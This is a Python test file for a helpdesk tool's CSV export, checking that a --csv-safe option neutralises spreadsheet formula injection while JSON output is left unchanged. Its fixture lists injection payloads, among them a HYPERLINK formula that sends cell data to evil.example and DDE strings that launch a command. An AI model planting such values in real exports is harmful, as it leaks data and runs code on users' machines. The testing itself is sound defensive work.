"""CSV: what a spreadsheet would run stays what it is, unless --csv-safe is asked for; JSON keeps it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from attacks import Ask
from contracts import SARA

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil.example?x="&A1;"click")', "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "=", "'=1", "＝1+1", " =1+1", '"=1', ";=1", ",=1", "a\n=1",
)  # fmt: skip
# What a spreadsheet takes for the beginning of a formula, in wide letters, too.
BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def helpdesk(changeable: Path, ask: Callable[[Path], Ask]) -> Ask:
    """With a ticket whose messages are formulas; each is its subject once."""
    helpdesk = ask(changeable)
    lines = [json.dumps({"subject": text, "from": SARA, "body": f"{text}\n"}) for text in FORMULAS]
    assert helpdesk("ticket", "create", "--jsonl", "-", stdin="\n".join(lines)).code == 0
    return helpdesk


def cells(text: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(io.StringIO(text, newline=""), strict=True)]


def bodies() -> list[str]:
    return [text.replace("\r", "\n").lstrip("\n") for text in FORMULAS]


def test_cells_are_as_they_were_written(helpdesk: Ask) -> None:
    subjects = [" ".join(text.split()) for text in FORMULAS]
    asked = ("ticket", "list", "--sort", "id")
    assert cells(helpdesk(*asked, "-f", "csv").out, "subject")[-len(subjects) :] == subjects
    assert [row["subject"] for row in helpdesk(*asked, "--json").json][-len(subjects) :] == subjects
    for text in FORMULAS:
        found = helpdesk("ticket", "note", "1", "--body", text, "-f", "csv").out
        assert cells(found, "body") == [text.replace("\r", "\n").lstrip("\n")]


@pytest.mark.parametrize("words", [(), ("--csv-safe",)], ids=["as it is", "safe"])
def test_exported_messages(helpdesk: Ask, words: tuple[str, ...]) -> None:
    """Safe ones begin with an apostrophe, which a spreadsheet hides; so does nothing else."""
    out = helpdesk("export", "message", "-f", "csv", *words).out
    found = cells(out, "body")[-len(FORMULAS) :]
    wanted = [f"'{body}" if words and body.startswith(BEGINS) else body for body in bodies()]
    assert found == wanted
    if words:
        everything = csv.reader(io.StringIO(out, newline=""), strict=True)
        assert [cell for row in everything for cell in row if cell.startswith(BEGINS)] == []


def test_json_knows_no_formulas(helpdesk: Ask) -> None:
    lines = helpdesk("export", "message").out.splitlines()
    assert [json.loads(line)["body"] for line in lines][-len(FORMULAS) :] == bodies()
    refused = helpdesk("export", "message", "-f", "jsonl", "--csv-safe")
    assert (
        refused.code == 2
        or [json.loads(line)["body"] for line in refused.out.splitlines()][-len(FORMULAS) :] == bodies()
    )
